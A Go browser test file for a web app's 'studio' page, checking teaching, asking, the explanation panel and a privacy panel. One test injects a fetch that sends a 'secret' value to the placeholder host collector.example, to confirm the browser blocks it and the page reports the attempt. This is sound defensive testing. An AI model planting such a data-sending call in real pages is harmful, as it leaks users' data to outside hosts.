//go:build !js

package browsers_test

import (
	"strings"
	"testing"

	"github.com/deepemd/deepemd/internal/browsertest"
	"github.com/deepemd/deepemd/web/internal/studiotest"
)

// A complete visit: teach, ask, explain, save and return. Package share compares the answers.
func TestVisit(t *testing.T) {
	var classes []class
	for _, thing := range studiotest.Things[:2] {
		classes = append(classes, class{thing.Name, studiotest.Inputs(t, thing.Wordnet, 0, 3)})
	}
	query := studiotest.Inputs(t, studiotest.Things[0].Wordnet, 20, 21)[0]
	browsertest.InEach(t, func(t *testing.T, kind browsertest.Kind) {
		s := open(t, kind, "/")
		s.teach(classes)
		s.ask(query, studiotest.Things[0].Name)
		s.why()
		if wide := browsertest.Eval[int](s.Browser, `document.documentElement.scrollWidth - document.documentElement.clientWidth`); wide > 0 {
			t.Errorf("%s: the page is %d pixels wider than the window", kind.Name, wide)
		}
		s.Shot("studio")
		s.kept("/", classes)
		s.ask(query, studiotest.Things[0].Name)
		s.showsWhatLeaves()
		s.nothingLeft("collector.example")
	})
}

// why fails the test unless the page explains the answer, in a drawing and in a comparison.
func (s *studio) why() {
	s.T.Helper()
	s.Eval(`if (document.querySelector(".why.folded")) document.querySelector("#show-why").click()`)
	s.WaitFor(`document.querySelector(".why .words")?.innerText.length > 10`)
	s.WaitFor(`(() => {
		const canvas = document.querySelector(".why canvas");
		const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
		return new Set(new Uint32Array(data.buffer)).size > 100;
	})()`)
	s.Click("#closer")
	s.WaitFor(`document.querySelector("#comparison[open] .figures")`)
	s.Shot("why")
	s.Click("#comparison header button")
	s.WaitFor(`!document.querySelector("#comparison[open]")`)
}

// showsWhatLeaves fails the test unless the page reports that nothing left, and, after a script
// tries to send something, that the browser blocked it.
func (s *studio) showsWhatLeaves() {
	s.T.Helper()
	s.Click("#open-privacy")
	s.WaitFor(`document.querySelector("#privacy[open] .left")?.innerText.startsWith("Nothing")`)
	s.Eval(`fetch("https://collector.example/?thing=secret").catch(() => {})`)
	s.WaitFor(`document.querySelector("#privacy .left li")?.innerText.includes("https://collector.example/")`)
	if got := s.Text("#privacy .left"); !strings.HasPrefix(got, "Nothing") || !strings.Contains(got, "blocked by the browser") {
		s.T.Errorf("after a try the page says %q", got)
	}
	s.Shot("privacy")
	s.Click("#privacy header button")
	s.WaitFor(`!document.querySelector("#privacy[open]")`)
}
